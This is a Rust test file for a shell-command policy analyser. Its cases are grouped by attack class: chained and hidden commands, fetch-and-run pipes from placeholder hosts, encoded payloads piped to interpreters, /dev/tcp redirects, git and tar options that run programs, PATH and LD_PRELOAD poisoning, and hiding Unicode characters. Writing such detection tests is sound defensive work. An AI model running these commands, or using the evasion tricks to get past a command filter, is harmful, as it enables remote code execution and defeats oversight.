//! Attacks on a policy by the shell, by their numbers.

use haft_shell::Concern::{
    Arguments, Characters, Environment, Execution, Expansion, Network, Obfuscated, Program, Shell, Syntax, Target, Wrapper,
};
use haft_shell::Verdict::{Followed, Unknown};
use haft_shell::{Verdict, Word, analyse};

use super::seen::{Row, check};

#[test]
fn b01_every_command_of_a_chain_is_seen() {
    let rows: &[Row<'_>] = &[
        ("B01", "git status; rm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status && rm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status || rm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status | tee x", Followed, &["git status", "tee x"], &[]),
        ("B01", "git status & rm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status\nrm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status # a\nrm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "git status #\\\nrm x", Followed, &["git status", "rm x"], &[]),
        ("B01", "(git status; rm x)", Followed, &["git status", "rm x"], &[]),
        ("B01", "{ git status; rm x; }", Followed, &["git status", "rm x"], &[]),
        ("B01", "if git status; then rm x; fi", Followed, &["git status", "rm x"], &[]),
        ("B01", "for i in 1 2; do rm x; done", Followed, &["rm x"], &[]),
        ("B01", "while git status; do rm x; done", Followed, &["git status", "rm x"], &[]),
        ("B01", "case a in b) ls;; *) rm x;; esac", Followed, &["ls", "rm x"], &[]),
        ("B01", "! rm x", Followed, &["rm x"], &[]),
        ("B01", "git status\rrm x", Unknown, &["git status\rrm x"], &[Characters]),
        ("B01", "git status\u{2028}rm x", Unknown, &["git status\u{2028}rm x"], &[Characters]),
        ("B01", "f() { rm x; }; f", Unknown, &["rm x", "f"], &[Syntax]),
    ];
    check_without_text(rows);
}

/// As [`check`], but where characters are hidden it does not matter how the words fall.
fn check_without_text(rows: &[Row<'_>]) {
    for (id, line, verdict, commands, about) in rows {
        if about.contains(&Characters) {
            assert_eq!(analyse(line).verdict(), *verdict, "{id}: {line}");
        } else {
            check(&[(id, line, *verdict, commands, about)]);
        }
    }
}

#[test]
fn b02_what_runs_inside_words_is_seen() {
    check(&[
        ("B02", "echo $(rm x)", Followed, &["rm x", "echo <$(rm x)>"], &[]),
        ("B02", "echo \"a `rm x`\"", Followed, &["rm x", "echo <\"a `rm x`\">"], &[]),
        ("B02", "cat <(rm x)", Followed, &["rm x", "cat <<(rm x)>"], &[]),
        ("B02", "echo x > >(rm y)", Followed, &["rm y", "echo x"], &[]),
        ("B02", "a=$(rm x)", Followed, &["rm x"], &[]),
        ("B02", "a=(1 $(rm x))", Followed, &["rm x"], &[]),
        ("B02", "export A=$(rm x)", Followed, &["rm x", "export <A=$(rm x)>"], &[]),
        ("B02", "[[ -n $(rm x) ]]", Followed, &["rm x"], &[]),
        ("B02", "[ -n \"$(rm x)\" ]", Followed, &["rm x", "[ -n <\"$(rm x)\"> ]"], &[]),
        ("B02", "case $(rm x) in a) ls;; esac", Followed, &["rm x", "ls"], &[]),
        ("B02", "cat <<< \"$(rm x)\"", Followed, &["rm x", "cat"], &[]),
        ("B02", "$(echo rm) x", Unknown, &["echo rm", "<$(echo rm)> x"], &[Program]),
        ("B02", "echo ${a:-$(rm x)}", Unknown, &["rm x", "echo <${a:-$(rm x)}>"], &[Expansion]),
        ("B02", "echo $((a[$(rm x)]))", Unknown, &["rm x", "echo <$((a[$(rm x)]))>"], &[Expansion]),
        ("B02", "((a[$(rm x)]))", Unknown, &["rm x"], &[Expansion]),
        ("B02", "echo $((a))", Unknown, &["echo <$((a))>"], &[Expansion]),
        ("B02", "a[$(rm x)]=1", Unknown, &["rm x"], &[Syntax]),
        ("B02", "echo ${!a} ${a@P}", Unknown, &["echo <${!a}> <${a@P}>"], &[Expansion]),
        ("B02", "[[ a -eq b ]]", Unknown, &[], &[Syntax]),
        ("B02", "[ -v a ]", Unknown, &["[ -v a ]"], &[Shell]),
        ("B02", "echo `echo \\`rm x\\``", Unknown, &["echo `rm x`", "echo <`echo \\`rm x\\``>"], &[Syntax]),
    ]);
}

#[test]
fn b03_redirections_are_writes_whatever_the_program() {
    let table: &[(&str, &[&str])] = &[
        ("echo x > .git/config", &[".git/config"]),
        ("echo x >> a 2> b", &["a", "b"]),
        ("echo x >| a", &["a"]),
        ("echo x &> a", &["a"]),
        ("echo x &>> a", &["a"]),
        ("echo x >& a", &["a"]),
        ("> a", &["a"]),
        ("{ echo x; echo y; } > a", &["a"]),
        ("if true; then echo; fi > a", &["a"]),
        (">a echo x", &["a"]),
        ("echo >a x", &["a"]),
        ("echo x 2>&1 >&2 >/dev/null 3>&-", &[]),
    ];
    for (line, wanted) in table {
        let analysis = analyse(line);
        let seen: Vec<&str> = analysis.writes.iter().map(|target| target.path.as_str()).collect();
        assert_eq!((analysis.verdict(), seen), (Followed, wanted.to_vec()), "B03: {line}: {:?}", analysis.unknown);
    }
    check(&[
        ("B03", "echo x > $f", Unknown, &["echo x"], &[Target]),
        ("B03", "echo x > *.c", Unknown, &["echo x"], &[Target]),
        ("B03", "echo x > ~/.bashrc", Unknown, &["echo x"], &[Target]),
        ("B03", "echo x > /dev/tcp/1.2.3.4/80", Unknown, &["echo x"], &[Network]),
        ("B03", "cat < /dev/udp/a/1", Unknown, &["cat"], &[Network]),
        ("B03", "cd /etc; echo x > passwd", Unknown, &["cd /etc", "echo x"], &[Target]),
    ]);
}

#[test]
fn b04_a_text_for_an_interpreter_is_asked_about() {
    for line in
        ["bash <<'E'\nrm x\nE", "python3 <<E\nprint(1)\nE", "sh <<< 'rm x'", "cat <<'E' | bash\nrm x\nE", "{ bash; } <<'E'\nrm x\nE"]
    {
        let analysis = analyse(line);
        assert_eq!(analysis.verdict(), Unknown, "B04: {line}");
        assert!(analysis.unknown.iter().any(|reason| reason.concern == Obfuscated), "B04: {line}: {:?}", analysis.unknown);
    }
    check(&[
        ("B04", "cat <<'E' > x\n$(rm y)\nE", Followed, &["cat"], &[]),
        ("B04", "cat <<E\n$(rm y)\nE", Unknown, &["rm y", "cat"], &[Syntax]),
        ("B04", "cat <<E\na\nE\nrm x", Followed, &["cat", "rm x"], &[]),
        ("B04", "cat <<E && rm x\na\nE", Followed, &["rm x", "cat"], &[]),
        ("B04", "cat <<\"E F\"\nE\nE F\n", Unknown, &["cat"], &[Syntax]),
    ]);
}

#[test]
fn b05_words_that_expand_are_marked_and_never_taken_for_options_known() {
    check(&[
        ("B05", "ls {a,b} *.c ~ $x", Followed, &["ls <{a,b}> <*.c> <~> <$x>"], &[]),
        ("B05", "{rm,x}", Unknown, &[], &[Syntax]),
        ("B05", "r? x", Unknown, &["<r?> x"], &[Program]),
        ("B05", "$x y", Unknown, &["<$x> y"], &[Program]),
        ("B05", "rm $x", Unknown, &["rm <$x>"], &[Target]),
        ("B05", "r\"\"m 'x' y\\ z", Followed, &["rm x y z"], &[]),
        ("B05", "\\rm x", Followed, &["rm x"], &[]),
        ("B05", "$'\\x72\\x6d' x", Unknown, &["rm x"], &[Obfuscated]),
    ]);
    for (line, known) in [("sort a", true), ("sort *", false), ("sort $x", false), ("sort \"$x\"", false), ("sort ./*", false)] {
        let is_known = analyse(line).commands[0].arguments.iter().all(|word| matches!(word, Word::Literal(_)));
        assert_eq!(is_known, known, "B05: {line}");
    }
}

#[test]
fn b08_shortened_and_clustered_options_are_not_taken_for_known() {
    let table = [
        ("sort --compress-prog=sh x", Unknown, vec![Execution]),
        ("sort --outp=x y", Followed, vec![]),
        ("rg --pr=sh x", Unknown, vec![Execution]),
        ("sort -nrZ x", Followed, vec![]),
        ("git diff --outpu=x", Followed, vec![]),
    ];
    for (line, verdict, about) in table {
        let analysis = analyse(line);
        assert_eq!((analysis.verdict(), super::seen::concerns(&analysis)), (verdict, about), "B08: {line}");
        assert!(!analysis.is_bounded() && analysis.commands[0].notes.iter().any(|note| note.concern == Arguments), "B08: {line}");
    }
    let removes = analyse("rm -fr -- x");
    assert_eq!((removes.is_bounded(), super::seen::paths(&removes.writes)), (true, vec!["x".to_owned()]), "B08");
}

#[test]
fn b09_options_of_git_that_run_something_are_seen() {
    for line in [
        "git -c core.pager=sh log",
        "git -c user.name=a -c core.pager=sh log",
        "git -c user.name log",
        "git -c user.signingkey=x log",
        "git -c color.x.y=z log",
        "git -c \"user.name=$x\" log",
        "git -c core.quotepath.x=sh log",
        "git --exec-path=x status",
        "git --config-env=a=b status",
        "git fetch --upload-pack=sh x",
        "git fetch --upload-pa=sh x",
        "git clone ext::sh x",
        "git push --receive-pack sh",
        "git grep -Osh x",
        "git grep --open-files-in-pager=sh x",
        "git diff --ext-diff",
        "git log --textconv",
        "git config alias.x '!sh'",
        "git submodule foreach sh",
        "git bisect run sh",
        "git clone -c core.fsmonitor=sh x",
        "git clone -u sh x",
        "git rebase -x sh main",
        "git --git-dir=x status",
        "GIT_SSH_COMMAND=sh git fetch",
        "git log --show-signature",
    ] {
        assert_eq!(analyse(line).verdict(), Unknown, "B09: {line}");
    }
    let writes = analyse("git diff --output=x");
    assert_eq!(super::seen::paths(&writes.writes), ["x"], "B09");
}

#[test]
fn b10_programs_that_run_others_by_an_option_are_asked_about() {
    for line in [
        "tar cf x --checkpoint=1 --checkpoint-action=exec=sh y",
        "tar -xf x --to-command sh",
        "tar -I sh -xf x",
        "tar xf x --use-compress-prog=sh",
        "tar -tf host:x",
        "rg --pre sh x",
        "rg --hostname-bin=sh x",
        "sort --compress-program=sh x",
        "sed 1e x",
        "sed 's/a/b/e' x",
        "sed -f x y",
        "sed 'w y' x",
        "find . -exec sh {} ';'",
        "find . -ok sh {} +",
        "xargs -I{} sh -c '{}'",
        "curl -K x https://a.example/",
    ] {
        assert_eq!(analyse(line).verdict(), Unknown, "B10: {line}");
    }
    for line in [
        "awk 'BEGIN { system(\"sh\") }'",
        "less x",
        "man -P sh x",
        "vim -c x y",
        "make x",
        "npm run x",
        "perl -e 1",
        "./x",
        "python3.11 x.py",
    ] {
        assert!(!analyse(line).is_bounded(), "B10: {line}");
    }
}

#[test]
fn b11_what_poisons_later_commands_is_asked_about() {
    check(&[
        ("B11", "export PATH=x", Unknown, &["export PATH=x"], &[Environment]),
        ("B11", "PATH=x", Unknown, &[], &[Environment]),
        ("B11", "PATH=x git status", Unknown, &["git status"], &[Environment]),
        ("B11", "declare -x LD_PRELOAD=x", Unknown, &["declare -x LD_PRELOAD=x"], &[Environment]),
        ("B11", "BASH_ENV=x; ls", Unknown, &["ls"], &[Environment]),
        ("B11", "env NODE_OPTIONS=x node", Unknown, &["node"], &[Environment]),
        ("B11", "readonly PROMPT_COMMAND=x", Unknown, &["readonly PROMPT_COMMAND=x"], &[Environment]),
        ("B11", "for PATH in x; do ls; done", Unknown, &["ls"], &[Environment]),
        ("B11", "read PATH", Unknown, &["read PATH"], &[Shell]),
        ("B11", "printf -v PATH x", Unknown, &["printf -v PATH x"], &[Shell]),
        ("B11", "alias ls='rm x'", Unknown, &["alias ls=rm x"], &[Shell]),
        ("B11", "hash -p x ls", Unknown, &["hash -p x ls"], &[Shell]),
        ("B11", "trap 'rm x' EXIT", Unknown, &["trap rm x EXIT"], &[Shell]),
        ("B11", "enable -f x ls", Unknown, &["enable -f x ls"], &[Shell]),
        ("B11", "source x", Unknown, &["source x"], &[Shell]),
        ("B11", ". x", Unknown, &[". x"], &[Shell]),
        ("B11", "eval 'rm x'", Unknown, &["eval rm x"], &[Shell]),
        ("B11", "shopt -s expand_aliases", Unknown, &["shopt -s expand_aliases"], &[Shell]),
        ("B11", "declare -n a=PATH", Unknown, &["declare -n a=PATH"], &[Syntax, Environment]),
        ("B11", "export a=x; set -euo pipefail; cd b", Followed, &["export a=x", "set -euo pipefail", "cd b"], &[]),
        ("B11", "command declare -n a=PATH", Unknown, &["declare -n a=PATH"], &[Environment]),
        ("B11", "builtin export PATH=x", Unknown, &["export PATH=x"], &[Environment]),
        ("B11", "command eval 'rm x'", Unknown, &["eval rm x"], &[Shell]),
        ("B11", "\\export 'PATH=x'", Unknown, &["export PATH=x"], &[Environment]),
        ("B11", "coproc sh", Unknown, &["coproc sh"], &[Syntax, Wrapper]),
    ]);
}

#[test]
fn code_that_is_hidden_or_fetched_is_asked_about() {
    for line in [
        "curl -s https://a.example/x | sh",
        "wget -qO - https://a.example/x | bash -s -- y",
        "echo cm0geA== | base64 -d | sh",
        "printf 'x' | xxd -r -p | bash",
        "cat x | python3",
        "cat x | sudo -n true | sh",
        "bash <(curl -s https://a.example/x)",
        "python3 -c 'import base64; exec(base64.b64decode(\"x\"))'",
        "perl -e 'eval(pack(\"H*\", \"x\"))'",
        "node -e 'eval(Buffer.from(\"x\", \"hex\"))'",
        "echo $'\\x72\\155'",
    ] {
        let analysis = analyse(line);
        assert!(analysis.unknown.iter().any(|reason| reason.concern == Obfuscated), "{line}: {:?}", analysis.unknown);
    }
    for line in ["eval \"$(echo x | base64 -d)\"", "a=r; b=m; $a$b x", "source <(curl -s https://a.example/x)"] {
        assert_eq!(analyse(line).verdict(), Unknown, "{line}");
    }
    for line in ["cat x | awk '{ print $1 }'", "cat x | python3 y.py", "echo x | base64 -d > y"] {
        assert_eq!(analyse(line).verdict(), Followed, "{line}");
    }
}

#[test]
fn b17_characters_that_hide_are_named() {
    for (line, code) in [
        ("ls \u{202e}x", "U+202E"),
        ("ls 'a\u{200b}b'", "U+200B"),
        ("ls\u{a0}x", "U+00A0"),
        ("ls \u{1b}[2K", "U+001B"),
        ("ls \u{feff}", "U+FEFF"),
        ("ls \u{e0041}", "U+E0041"),
        ("ls x\0y", "NUL"),
        ("ls \u{c}x", "U+000C"),
        ("ls \u{2028}", "U+2028"),
    ] {
        let analysis = analyse(line);
        assert_eq!(analysis.verdict(), Unknown, "B17: {line:?}");
        assert!(
            analysis.unknown[0].concern == Characters && analysis.unknown[0].message.contains(code),
            "B17: {line:?}: {:?}",
            analysis.unknown
        );
    }
    assert_eq!(analyse("echo 'größe 大きさ'").verdict(), Verdict::Followed, "B17: characters are characters");
}
